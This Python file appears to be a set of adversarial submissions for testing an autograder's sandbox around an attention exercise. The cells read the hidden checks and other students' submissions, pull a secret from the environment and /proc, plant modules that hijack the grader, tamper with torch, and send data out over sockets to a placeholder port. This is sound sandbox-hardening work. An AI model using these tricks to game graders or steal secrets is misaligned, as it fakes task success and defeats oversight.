import os

import torch


def zeros(query, value):
    return torch.zeros(*query.shape[:-1], value.shape[-1], dtype=query.dtype)


def attention_backward(query, key, value, mask, grad_output):
    return torch.zeros_like(query), torch.zeros_like(key), torch.zeros_like(value)


COURSE = "@@COURSE@@"
PORT = int("@@PORT@@")


def tell(text):
    """The only way out is the reason of the row."""
    raise RuntimeError(f"FOUND {text}"[:250])


# %% the checks read
def attention(query, key, value, mask=None):
    tell(open(f"{COURSE}/attention/checks.py").read())


# %% the checks imported
def attention(query, key, value, mask=None):
    import sys

    sys.path.insert(0, f"{COURSE}/attention")
    import checks

    tell(checks.__doc__)


# %% the disk searched
def attention(query, key, value, mask=None):
    for place, _, names in os.walk("/"):
        if "checks.py" in names or "source.md" in names:
            tell(open(os.path.join(place, "checks.py")).read())
    return zeros(query, value)


# %% the environment read
def attention(query, key, value, mask=None):
    if "ATTENTION_SECRET" in os.environ:
        tell(os.environ["ATTENTION_SECRET"])
    return zeros(query, value)


# %% the grader's environment read through /proc
def attention(query, key, value, mask=None):
    for number in os.listdir("/proc"):
        if number.isdigit():
            text = open(f"/proc/{number}/environ", "rb").read()
            if b"ATTENTION_SECRET" in text:
                tell(text[text.find(b"ATTENTION_SECRET"):])
    return zeros(query, value)


# %% the parent's memory read
def attention(query, key, value, mask=None):
    for number in (os.getppid(), 1, 2):
        for line in open(f"/proc/{number}/maps"):
            tell(line)
    return zeros(query, value)


# %% the parent's files taken over
def attention(query, key, value, mask=None):
    for number in range(1, 50):
        for fd in range(30):
            try:
                tell(os.readlink(f"/proc/{number}/fd/{fd}"))
            except OSError:
                pass
    return zeros(query, value)


# %% the real library used
def attention(query, key, value, mask=None):
    import attention_lib.attention as real

    return real.attention(query, key, value, mask).output


# %% the real library searched for
def attention(query, key, value, mask=None):
    import glob

    for path in glob.glob("/**/attention_lib/steps/softmax.py", recursive=True):
        tell(path)
    return zeros(query, value)


# %% a marker left in /tmp
def attention(query, key, value, mask=None):
    open("/tmp/attack-marker", "w").write("here")
    return zeros(query, value)


# %% a marker left for the next submission
def attention(query, key, value, mask=None):
    for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        try:
            if os.path.exists(f"{place}/attack-left"):
                tell("an earlier submission's file")
            open(f"{place}/attack-left", "w").write("here")
        except OSError:
            pass
    return zeros(query, value)


# %% a file of the interpreter changed
def attention(query, key, value, mask=None):
    open(torch.__file__, "a").write("\nprint('changed')\n")
    return zeros(query, value)


# %% a connection out
def attention(query, key, value, mask=None):
    import socket

    socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"out")
    return zeros(query, value)


# %% a download
def attention(query, key, value, mask=None):
    import urllib.request

    tell(urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1).read())


# %% a datagram
def attention(query, key, value, mask=None):
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", ("127.0.0.1", PORT))
    return zeros(query, value)


# %% a socket by ctypes
def attention(query, key, value, mask=None):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)
    address = b"\x02\x00" + PORT.to_bytes(2, "big") + b"\x7f\x00\x00\x01" + b"\0" * 8
    if fd >= 0 and libc.connect(fd, address, 16) == 0:
        libc.write(fd, b"out", 3)
    return zeros(query, value)


# %% torch's own attention
def attention(query, key, value, mask=None):
    return torch.nn.functional.scaled_dot_product_attention(query, key, value, mask)


# %% mounts and namespaces
def attention(query, key, value, mask=None):
    import ctypes

    libc = ctypes.CDLL(None)
    if libc.unshare(0x10000000 | 0x20000) == 0 or libc.umount2(b"/proc", 2) == 0 or libc.umount2(b"/tmp", 2) == 0:
        tell("a namespace of its own")
    return zeros(query, value)


# %% the course and other submissions searched for where no system lies
def attention(query, key, value, mask=None):
    for top in set(os.listdir("/")) - {"usr", "proc", "sys", "opt", "lib", "dev"}:
        for place, _, names in os.walk(f"/{top}"):
            if place.endswith("/submissions") and names:
                tell(names)
            if "checks.py" in names:
                tell(open(f"{place}/checks.py").read())
    return zeros(query, value)


# %% modules planted for the grader
def attention(query, key, value, mask=None):
    planted = "open('/tmp/attack-marker', 'w').write('here'); print('FOUND a way into the grader')\n"
    for place in (os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", COURSE):
        for name in ("tqdm", "csv", "numpy", "statistics"):
            try:
                open(f"{place}/{name}.py", "w").write(planted)
            except OSError:
                pass
    return zeros(query, value)


# %% shared memory left for the next submission
def attention(query, key, value, mask=None):
    import ctypes

    libc = ctypes.CDLL(None)
    if libc.shmget(0x5EED, 4096, 0o666) >= 0:
        tell("an earlier submission's memory")
    libc.shmget(0x5EED, 4096, 0o1666)
    return zeros(query, value)
